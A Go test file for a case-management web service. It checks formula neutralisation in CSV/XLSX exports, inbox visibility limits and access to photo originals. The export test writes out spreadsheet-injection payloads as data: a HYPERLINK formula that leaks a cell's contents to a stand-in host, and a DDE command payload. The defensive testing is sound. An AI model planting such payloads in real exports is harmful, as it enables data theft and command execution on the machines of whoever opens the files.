package web_test

import (
	"bytes"
	"context"
	"encoding/csv"
	"encoding/json"
	"image"
	"image/jpeg"
	"strings"
	"testing"

	"github.com/xiuhua/xiuhua/internal/caseflow"
	"github.com/xiuhua/xiuhua/internal/org"
	"github.com/xiuhua/xiuhua/internal/store"
	"github.com/xuri/excelize/v2"
)

// A description someone typed as a formula, and a department named like
// one, reach ledger and evaluation files as text, never as formulas.
func TestExportsNeutraliseFormulas(t *testing.T) {
	s, a := server(t)
	ctx := context.Background()
	cs, _ := a.Store.Cases(ctx, store.CaseFilter{Limit: 1})
	c := cs[0]
	evil := `=HYPERLINK("http://127.0.0.1:9/?leak="&A1,"点击查看")`
	worker := tokenOf(t, a, "gw"+c.Place.Grid)
	j, _ := json.Marshal(map[string]any{"category": "M06011", "description": evil, "address": "@SUM(1+1)", "lon": c.Point.Lon, "lat": c.Point.Lat})
	code, body, _ := send(t, "POST", s.URL+"/api/v1/cases", worker, bytes.NewReader(j), map[string]string{"Content-Type": "application/json"})
	var made struct{ Number string }
	if code != 201 || json.Unmarshal([]byte(body), &made) != nil {
		t.Fatalf("report: %d %s", code, body)
	}
	code, body, _ = getAs(t, s.URL+"/api/v1/ledger?format=csv&grid="+c.Place.Grid, worker)
	cr := csv.NewReader(strings.NewReader(strings.TrimPrefix(body, "\ufeff")))
	cr.FieldsPerRecord = -1 // the totals row is shorter
	rows, err := cr.ReadAll()
	if code != 200 || err != nil {
		t.Fatalf("ledger csv %d %v", code, err)
	}
	found := false
	for _, r := range rows {
		if r[0] == made.Number {
			found = true
			if r[len(r)-1] != "'"+evil {
				t.Errorf("csv description %q, want it behind an apostrophe", r[len(r)-1])
			}
		}
	}
	if !found {
		t.Fatalf("case %s not in the grid worker's ledger", made.Number)
	}
	code, body, _ = getAs(t, s.URL+"/api/v1/ledger?format=xlsx&grid="+c.Place.Grid, worker)
	x, err := excelize.OpenReader(strings.NewReader(body))
	if code != 200 || err != nil {
		t.Fatalf("ledger xlsx %d %v", code, err)
	}
	sh := x.GetSheetName(0)
	xr, _ := x.GetRows(sh)
	found = false
	for i, r := range xr {
		if len(r) > 0 && r[0] == made.Number {
			found = true
			cell, _ := excelize.CoordinatesToCellName(len(r), i+1)
			typ, _ := x.GetCellType(sh, cell)
			formula, _ := x.GetCellFormula(sh, cell)
			style, _ := x.GetCellStyle(sh, cell)
			st, _ := x.GetStyle(style)
			if r[len(r)-1] != evil || typ != excelize.CellTypeInlineString || formula != "" || st == nil || st.NumFmt != 49 {
				t.Errorf("xlsx description %q: type %v, formula %q, style %+v; want the text as a Text string cell", r[len(r)-1], typ, formula, st)
			}
		}
	}
	if !found {
		t.Fatalf("case %s not in the xlsx ledger", made.Number)
	}
	// A department named like a formula, in the evaluation file.
	u := org.Unit{Code: "evil", Name: "+cmd|' /C calc'!A0", Kind: org.KindDepartment}
	if err := a.Store.CreateUnit(ctx, &u); err != nil {
		t.Fatal(err)
	}
	code, body, _ = get(t, s.URL+"/api/v1/evaluations?group=department&period=2026-10&format=csv")
	if code != 200 || !strings.Contains(body, ",'+cmd|' /C calc'!A0,") || strings.Contains(body, ",+cmd") {
		t.Fatalf("evaluation csv %d: the unit's name is not neutralised", code)
	}
}

// A grid worker is employed by the street office and so shares its
// inbox; they see only the lines about cases they may open, and the
// unread badge counts those lines.
func TestInboxShowsOnlyWhatTheReaderMaySee(t *testing.T) {
	s, a := server(t)
	ctx := context.Background()
	// New reports in four grids of one street, registered and dispatched
	// to its street office.
	all, _ := a.Store.Cases(ctx, store.CaseFilter{Limit: 1000})
	street := all[0].Place.Street
	op, disp := tokenOf(t, a, "operator1"), tokenOf(t, a, "dispatcher1")
	grids := map[string]bool{}
	for _, c := range all {
		if c.Place.Street != street || grids[c.Place.Grid] || len(grids) == 4 {
			continue
		}
		grids[c.Place.Grid] = true
		j, _ := json.Marshal(map[string]any{"category": "M06011", "description": "楼道堆物", "lon": c.Point.Lon, "lat": c.Point.Lat})
		code, body, _ := send(t, "POST", s.URL+"/api/v1/cases", op, bytes.NewReader(j), map[string]string{"Content-Type": "application/json"})
		var made struct{ Number string }
		if code != 201 || json.Unmarshal([]byte(body), &made) != nil {
			t.Fatalf("report: %d %s", code, body)
		}
		act(t, s.URL, disp, made.Number, "register", map[string]any{})
		act(t, s.URL, disp, made.Number, "dispatch", map[string]any{"assignments": []map[string]any{{"unit": "jd" + street, "lead": true}}})
	}
	accts, _ := a.Store.Accounts(ctx)
	hiding, showing := 0, 0 // workers with lines hidden from them, and with lines shown
	for _, ac := range accts {
		if ac.Role != caseflow.GridWorker || len(ac.Grids) != 1 || !strings.HasPrefix(ac.Grids[0], street) {
			continue
		}
		everything, err := a.Store.Inbox(ctx, store.Recipient{AccountID: ac.ID, UnitID: ac.UnitID, Role: ac.Role, Scope: store.CaseScope{All: true}}, a.Now(), 500)
		if err != nil {
			t.Fatal(err)
		}
		hidden := 0
		for _, n := range everything.New {
			c, _ := a.Store.Case(ctx, n.CaseID)
			if c.Place.Grid != ac.Grids[0] && c.Reporter.AccountID != ac.ID {
				hidden++
			}
		}
		if hidden > 0 {
			hiding++
		}
		if len(everything.New) > hidden {
			showing++
		}
		token := tokenOf(t, a, ac.Username)
		code, body, _ := getAs(t, s.URL+"/api/v1/inbox?limit=500", token)
		var in store.Inbox
		if code != 200 || json.Unmarshal([]byte(body), &in) != nil {
			t.Fatalf("inbox %d %.200s", code, body)
		}
		unread := 0
		for _, n := range in.New {
			if code, _, _ := getAs(t, s.URL+"/api/v1/cases/"+n.CaseNumber, token); code != 200 {
				t.Errorf("%s's inbox names case %s, which they cannot open (%d)", ac.Username, n.CaseNumber, code)
			}
			if n.ReadAt.IsZero() {
				unread++
			}
		}
		for _, d := range append(in.Due, in.Overdue...) {
			if code, _, _ := getAs(t, s.URL+"/api/v1/cases/"+d.CaseNumber, token); code != 200 {
				t.Errorf("%s's deadlines name case %s, which they cannot open (%d)", ac.Username, d.CaseNumber, code)
			}
		}
		if in.Unread != unread || len(in.New) != len(everything.New)-hidden {
			t.Errorf("%s: %d lines, %d unread counted, %d unread lines; %d addressed, %d of them hidden",
				ac.Username, len(in.New), in.Unread, unread, len(everything.New), hidden)
		}
	}
	if hiding == 0 || showing == 0 {
		t.Fatalf("of the street's grid workers %d had lines hidden, %d lines shown (cases in %d grids): the test proves little", hiding, showing, len(grids))
	}
}

// act makes one transition as the token's holder on the case's current
// version, failing the test unless it is done.
func act(t *testing.T, base, token, number, action string, body map[string]any) {
	t.Helper()
	_, view, _ := getAs(t, base+"/api/v1/cases/"+number, token)
	var v struct{ Version int }
	json.Unmarshal([]byte(view), &v)
	body["version"] = v.Version
	j, _ := json.Marshal(body)
	if code, resp, _ := send(t, "POST", base+"/api/v1/cases/"+number+"/actions/"+action, token, bytes.NewReader(j),
		map[string]string{"Content-Type": "application/json"}); code != 200 {
		t.Fatalf("%s %s: %d %s", action, number, code, resp)
	}
}

// A photo's original (EXIF GPS included) goes only to staff who may see a
// case it is evidence on; to anyone else it is a missing photo, and it
// cannot be borrowed onto a case of one's own to open it.
func TestPhotoOriginalsFollowTheirCases(t *testing.T) {
	s, a := server(t)
	ctx := context.Background()
	cs, _ := a.Store.Cases(ctx, store.CaseFilter{Limit: 1000})
	here := cs[0]
	var there caseflow.Case // a case in another street
	for _, c := range cs {
		if c.Place.Street != here.Place.Street {
			there = c
			break
		}
	}
	img := image.NewRGBA(image.Rect(0, 0, 32, 24))
	var j bytes.Buffer
	jpeg.Encode(&j, img, nil)
	seg := []byte("Exif\x00\x00GPS 40.0812N 113.2931E SECRET-DEVICE")
	orig := append(append(append([]byte{}, j.Bytes()[:2]...), append([]byte{0xFF, 0xE1, 0, byte(len(seg) + 2)}, seg...)...), j.Bytes()[2:]...)
	worker := tokenOf(t, a, "gw"+here.Place.Grid)
	code, body, _ := send(t, "POST", s.URL+"/api/v1/photos", worker, bytes.NewReader(orig), nil)
	var up struct{ ID string }
	if code != 201 || json.Unmarshal([]byte(body), &up) != nil {
		t.Fatalf("upload %d %s", code, body)
	}
	original := s.URL + "/api/v1/photos/" + up.ID + "/original"
	_, missing, _ := getAs(t, s.URL+"/api/v1/photos/"+strings.Repeat("ab", 32)+"/original", worker)
	if code, b, _ := getAs(t, original, worker); code != 404 || b != missing {
		t.Fatalf("the original of a photo on no case, to its uploader: %d %s", code, b)
	}
	report := func(token string, c caseflow.Case) (int, string) {
		j, _ := json.Marshal(map[string]any{"category": "M06011", "description": "垃圾", "lon": c.Point.Lon, "lat": c.Point.Lat, "photos": []string{up.ID}})
		code, body, _ := send(t, "POST", s.URL+"/api/v1/cases", token, bytes.NewReader(j), map[string]string{"Content-Type": "application/json"})
		return code, body
	}
	if code, body := report(worker, here); code != 201 {
		t.Fatalf("report with the photo: %d %s", code, body)
	}
	accts, _ := a.Store.Accounts(ctx)
	var elsewhere, streetOffice, otherOffice string
	for _, ac := range accts {
		switch {
		case ac.Role == caseflow.GridWorker && len(ac.Grids) == 1 && ac.Grids[0] == there.Place.Grid:
			elsewhere = ac.Username
		case ac.Username == "h-jd"+here.Place.Street:
			streetOffice = ac.Username
		case ac.Username == "h-jd"+there.Place.Street:
			otherOffice = ac.Username
		}
	}
	for _, tt := range []struct {
		user string
		see  bool
	}{
		{"gw" + here.Place.Grid, true}, {streetOffice, true}, {"dispatcher1", true}, {"leader", true}, {"operator1", true}, {"admin", true},
		{elsewhere, false}, {otherOffice, false}, {"h-hwc", false}, {"inspector", false},
	} {
		code, b, _ := getAs(t, original, tokenOf(t, a, tt.user))
		switch {
		case tt.see && (code != 200 || !strings.Contains(b, "SECRET-DEVICE")):
			t.Errorf("%s, who sees the case: %d", tt.user, code)
		case !tt.see && (code != 404 || b != missing):
			t.Errorf("%s, who does not see the case: %d %.100s, want what a missing photo answers", tt.user, code, b)
		}
	}
	// Borrowing the photo onto a case of one's own is refused like an
	// unknown photo; its public copy stays public.
	if code, body := report(tokenOf(t, a, elsewhere), there); code != 400 || !strings.Contains(body, `"field":"photos[0]"`) {
		t.Fatalf("another grid's worker attaches the photo: %d %s", code, body)
	}
	if code, b, _ := getAs(t, original, tokenOf(t, a, elsewhere)); code != 404 || b != missing {
		t.Fatalf("after trying to borrow it: %d", code)
	}
	if code, b, _ := getAs(t, s.URL+"/api/v1/photos/"+up.ID, ""); code != 200 || strings.Contains(b, "SECRET") {
		t.Fatalf("the public copy: %d", code)
	}
}
